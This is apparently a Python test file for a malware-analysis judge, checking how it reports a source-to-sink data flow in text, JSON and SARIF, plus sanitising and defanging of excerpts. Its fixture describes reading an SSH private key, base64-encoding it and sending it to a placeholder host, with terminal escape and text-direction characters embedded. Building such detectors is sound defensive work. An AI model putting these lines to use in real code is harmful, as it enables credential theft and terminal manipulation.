"""qanat judge over stored events: verdict and exit status, and how data flowed from source to sink, in every format."""
import json

from tap import done, ok, put, Run, scratch

FLOW = "\n".join((
    "lib/read.js:3:11\ta file with credentials\tfs.readFileSync(home + '/.ssh/id_rsa')",
    "lib/read.js:4:5\tencoded as base64\tkey.toString('base64') // \x1b[2J\u202e",
    "index.js:9:1\tpassed on\tsend('https://c.example.invalid/', key)",
))


def events(flow=FLOW, **more):
    attrs = {"host": "c.example.invalid", "how": "fetch", "class": "request-bin", **({"flow": flow} if flow else {})}
    sent = {"event": "net.send", "phase": "install", "layer": "static", "file": "index.js", "offset": 80, "line": 5, "column": 2,
            "labels": ["ssh"], "attrs": attrs, "text": "fetch('https://c.example.invalid/', { body })", **more}
    return [{"schema": "qanat.events/1", "name": "sender", "version": "1.0.0"}, sent]


def judge(d, lines, *options):
    path = put(f"{d}/x.events.ndjson", "".join(json.dumps(line) + "\n" for line in lines).encode())
    return Run("judge", *options, path)


def in_text(d):
    r = judge(d, events(), "--explain")
    text = r.out.decode()
    ok(r.code == 1 and "MALICIOUS" in text, "events that tell of a theft are malicious", r)
    places = [text.find(word) for word in ("source   lib/read.js:3:11", "through  lib/read.js:4:5", "through  index.js:9:1",
                                           "sink     index.js:5:2")]
    ok(-1 not in places and places == sorted(places), "--explain shows the way from source to sink", r)
    ok(b"\x1b" not in r.out and "\u202e" not in text, "nothing of an excerpt drives the terminal", r)
    ok("c.example.invalid" not in text and "c[.]example[.]invalid" in text, "addresses in excerpts are defanged", r)
    r = judge(d, events())
    ok(r.code == 1 and b"source " not in r.out, "without --explain it is not shown", r)


def in_json(d):
    found = [e for f in judge(d, events(), "--format", "json").json["results"][0]["findings"] for e in f["evidence"]]
    flow = next(e["flow"] for e in found if e["event"] == "net.send")
    ok([(s["file"], s["line"], s["column"], s["what"]) for s in flow] == [
        ("lib/read.js", 3, 11, "a file with credentials"), ("lib/read.js", 4, 5, "encoded as base64"), ("index.js", 9, 1, "passed on"),
    ], "JSON has the steps as objects", found)
    ok(flow[1]["text"] == "key.toString('base64') // \x1b[2J\u202e", "with their excerpts as they are", flow)
    found = [e for f in judge(d, events(None), "--format", "json").json["results"][0]["findings"] for e in f["evidence"]]
    ok(found and all(e["flow"] == [] for e in found), "an event without a flow has an empty one", found)


def in_sarif(d):
    r = json.loads(judge(d, events(), "--format", "sarif").out)
    flows = [f for result in r["runs"][0]["results"] for f in result.get("codeFlows", [])]
    steps = [s["location"] for s in flows[0]["threadFlows"][0]["locations"]] if flows else []
    ok([s["physicalLocation"]["region"]["startLine"] for s in steps] == [3, 4, 9, 5], "SARIF has a code flow that ends at the sink", flows)
    r = json.loads(judge(d, events(None), "--format", "sarif").out)
    ok(all("codeFlows" not in result for result in r["runs"][0]["results"]), "and none without a flow", r)


def equal_but_for_flow(d):
    head, sent = events()
    other = {**events("other.js:1:1\telse\tx")[1], "offset": 90, "line": 6}
    r = judge(d, [head, other, sent, sent], "--format", "json")
    found = [e for f in r.json["results"][0]["findings"] for e in f["evidence"] if e["event"] == "net.send"]
    ok(found and all(e["line"] == 5 and len(e["flow"]) == 3 for e in found), "events equal but for their flow are one", found)
    long = judge(d, events("x" * 2049))
    ok(long.code == 2 and b"too long" in long.err, "a flow past its limit is refused", long)
    ok(judge(d, events("x" * 2048)).code == 1, "and one at the limit is not", "")


with scratch() as d:
    for part in (in_text, in_json, in_sarif, equal_but_for_flow):
        part(d)
done()
